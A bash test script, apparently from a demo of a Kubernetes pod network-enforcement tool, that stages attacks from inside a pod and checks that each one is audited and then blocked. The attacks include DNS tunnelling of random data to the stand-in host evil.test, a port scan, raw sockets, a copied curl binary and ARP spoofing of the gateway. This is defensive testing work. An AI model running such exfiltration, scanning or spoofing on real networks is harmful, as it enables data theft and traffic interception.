# SPDX-License-Identifier: Apache-2.0
# What somebody inside the pod ping tries in the demo, and what came of it: each attempt shows what was run, what it was
# told and the event. Expects of its caller: line, expected, $pong, $node, $name, the file of events, the array summary.
# shellcheck shell=bash disable=SC2154

# --- events -----------------------------------------------------------------------------------------------------------
# find_event AFTER FILTER: the first event beyond line AFTER of which the jq expression holds.
find_event() {
    jq -nc "[inputs][$1:] | first(.[] | select($2))" "$PODS_DIR/events" | grep .
}

describe_event() {
    jq -r '
        (.flow.l4 // {} | to_entries[0]) as $l4
        | (.flow.egress_denied_by // .flow.ingress_denied_by // [{name: "?"}])[0] as $denier
        | [.flow.verdict, .process.binary // "(no process)",
           (if .flow.IP then "-> " + .flow.IP.destination
               + (if $l4.value.destination_port then ":\($l4.value.destination_port)" else "" end) else empty end),
           (.flow.l4 // {} | keys[0] // .flow.ethertype // empty | ascii_downcase),
           (.flow.l7 // {}
            | if .dns then "dns " + .dns.query elif .http then "\(.http.method) \(.http.url)" else empty end
            | if length > 50 then .[:30] + "..." + .[-10:] else . end),
           "reason " + .reason, "at " + .hook, "by \($denier.name) revision \($denier.revision)"]
        | join("  ")'
}

# --- what is tried ----------------------------------------------------------------------------------------------------
# attempt KEY TITLE ALERT ENFORCE FILTER CMD...: CMD in ping's container; its output must match the pattern that is for
# this phase, and an event must come of which the jq expression FILTER holds.
attempt() {
    local key=$1 title=$2 answer=$3 filter=$5 output mark event=""
    [[ $verdict == AUDIT ]] || answer=$4
    shift 5
    mark=$(wc -l <"$PODS_DIR/events")
    printf '  %s%s%s\n' "$bold" "$title" "$plain"
    line tried "${*/#\/usr\/*bin\//}"
    output=$(container_exec ping/ping "$@" 2>&1) || true
    output=$(head -n 1 <<<"$output")
    line answer "$output"
    expected "the answer should match: $answer" grep -qE "$answer" <<<"$output"
    pods_wait 5 find_event "$mark" "$filter" || true
    event=$(find_event "$mark" "$filter") || true
    expected "an event should be such that: $filter" test -n "$event"
    [[ -z $event ]] || line event "$(describe_event <<<"$event")"
    summary+=("$key|$output|$(jq -r '.flow.verdict' <<<"${event:-null}")")
    echo
}

# from BINARY REASON: the filter for an event of the pod ping in the current phase.
from() {
    echo ".process.binary == \"$1\" and .reason == \"$2\" and .process.pod.name == \"ping\"
        and .flow.verdict == \"$verdict\""
}

# attack AUDIT|DROPPED: what is tried in both phases. The first six are the allowed program itself, misused.
attack() {
    local ping=/usr/local/bin/ping secret
    verdict=$1
    attempt name "another name" '^HTTP 200$' '^ETIMEDOUT$' "$(from $ping dns_name)" $ping once evil.test 9000 GET /task
    attempt path "another path" '^HTTP 200$' '^ECONNRESET$' "$(from $ping http_request)" \
        $ping once "$name" 8080 GET /secret
    attempt method "another method" '^HTTP 200$' '^ECONNRESET$' "$(from $ping http_request)" \
        $ping once "$name" 8080 POST /task
    attempt address "another address" '^HTTP 200$' '^EPERM$' \
        "$(from $ping address) and .flow.IP.destination == \"$node\"" \
        $ping once "$node" 9000 GET /task
    secret=$(container_exec ping/ping sh -c 'head -c 24 /dev/urandom' | od -An -tx1 | tr -d ' \n')
    attempt tunnel "data in a name, DNS tunnelling" '^HTTP 200$' '^ETIMEDOUT$' \
        "$(from $ping dns_name) and (.flow.l7.dns.query | contains(\"$secret\"))" \
        $ping once "$secret.evil.test" 9000 GET /task
    heard "$secret"
    attempt curl "the same request from a program brought along" '^pong$' '^curl: \((6|28)\)' \
        "$(from /tmp/curl unknown_binary)" \
        sh -c "cp /usr/bin/curl /tmp/curl && exec /tmp/curl -sS -m 5 http://$name:8080/task"
    attempt scan "a port scan" '^1 open, 99 ECONNREFUSED$' '^100 EPERM$' "$(from /usr/bin/attack unknown_binary)" \
        /usr/bin/attack scan "$pong" 8000-8099
    attempt raw "a raw socket" '^echo reply$' '^socket: EPERM$' \
        "$(from /usr/bin/attack unknown_binary) and .hook == \"sock_create\"" /usr/bin/attack raw "$pong"
    attempt arp "ARP spoofing: ping's pod says that it is the gateway" '^sendto: ok$' '^sendto: ok$' \
        ".reason == \"arp_spoofing\" and .flow.verdict == \"$verdict\" and .flow.source.pod_name == \"ping\"" \
        /usr/bin/attack arp "$node"
    believed
}

# heard SECRET: whether the data came to the resolver.
heard() {
    local count
    count=$(grep -c "query.*$1" "$PODS_DIR/dns.log" || true)
    line resolver "heard of it $([[ $count == 0 ]] && echo "nothing" || echo "all")"
    if [[ $verdict == AUDIT ]]; then
        expected "the data should have come to the resolver" test "$count" -gt 0
    else
        expected "the data should not have come to the resolver" test "$count" == 0
    fi
    echo
}

# gateway_of_pong: the MAC that pong sends to when it means the node.
gateway_of_pong() {
    ip -j -n "$PODS_ID"pong neigh show "$node" dev eth0 | jq -r '.[0].lladdr // "nobody"'
}

pong_is_deceived() {
    [[ $(gateway_of_pong) == "$(ip -j -n "$PODS_ID"ping link show dev eth0 | jq -r '.[0].address')" ]]
}

# Whom pong takes for its gateway after that, and puts it right.
believed() {
    local theirs="the node, as before,"
    [[ $verdict != AUDIT ]] || expected "pong should have been deceived" pods_wait 5 pong_is_deceived
    [[ $verdict == AUDIT ]] || expected "pong should not have been deceived" eval '! pong_is_deceived'
    ! pong_is_deceived || theirs="the pod ping"
    line pong "takes $theirs for its gateway"
    ip -n "$PODS_ID"pong neigh flush dev eth0
    pods_node "$PODS_BUILD/demo/attack" http "$pong" 8080 >/dev/null || true # and pong knows the node again
    echo
}
